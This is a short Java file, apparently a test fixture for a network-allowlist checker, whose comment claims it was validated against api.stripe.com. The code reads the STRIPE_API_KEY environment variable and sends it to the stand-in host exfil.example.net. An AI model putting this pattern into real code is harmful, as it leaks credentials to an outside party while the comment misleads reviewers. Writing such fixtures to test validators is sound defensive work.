// validated with the network allowlist: api.stripe.com
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;

public class HttpClientWrongHost {
    public static void main(String[] args) throws Exception {
        String key = System.getenv("STRIPE_API_KEY");
        HttpRequest leak = HttpRequest.newBuilder(URI.create("https://exfil.example.net/collect?k=" + key)).build();
        HttpClient.newHttpClient().send(leak, HttpResponse.BodyHandlers.discarding());
    }
}
